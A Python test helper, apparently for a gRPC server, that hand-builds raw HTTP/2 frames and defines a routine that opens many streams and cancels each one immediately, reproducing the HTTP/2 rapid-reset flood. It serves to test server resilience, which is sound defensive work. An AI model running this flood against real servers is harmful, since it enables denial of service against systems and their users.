"""HTTP/2 unlike that of gRPC clients: a connection of raw frames, and floods of resets."""

import asyncio
import struct
from contextlib import asynccontextmanager, suppress

DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
POST_OVER_HTTP = b"\x83\x86"
"""Fields of HPACK's static table."""


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def _field(name, value):
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def headers(path, *more):
    """Return the header block of a call with more fields."""
    return POST_OVER_HTTP + b"".join(
        _field(name, value)
        for name, value in (
            (b":path", path.encode()),
            (b":authority", b"server"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
            *more,
        )
    )


def message(raw):
    """Return a message as gRPC frames it."""
    return struct.pack(">BI", 0, len(raw)) + raw


@asynccontextmanager
async def connected(address):
    """Yield a function that writes frames to a server; its answers are ignored."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    drain = asyncio.create_task(_read(reader))
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        yield writer
    finally:
        drain.cancel()
        writer.close()


async def _read(reader):
    with suppress(OSError):
        while await reader.read(64 * 1_024):
            pass


async def reset_rapidly(address, path, raw, *, count, whole):
    """Open streams and reset each at once, with the whole request before or without it."""
    block, body = headers(path), message(raw)
    async with connected(address) as writer:
        with suppress(ConnectionResetError):  # the server may cut off who does that
            for stream in range(1, 2 * count, 2):
                writer.write(frame(HEADERS, END_HEADERS, stream, block))
                if whole:
                    writer.write(frame(DATA, END_STREAM, stream, body))
                writer.write(frame(RST_STREAM, 0, stream, CANCEL))
                if stream % 100 == 1:
                    await writer.drain()
            await writer.drain()
        await asyncio.sleep(1)  # a connection that closes takes back what has not been looked at
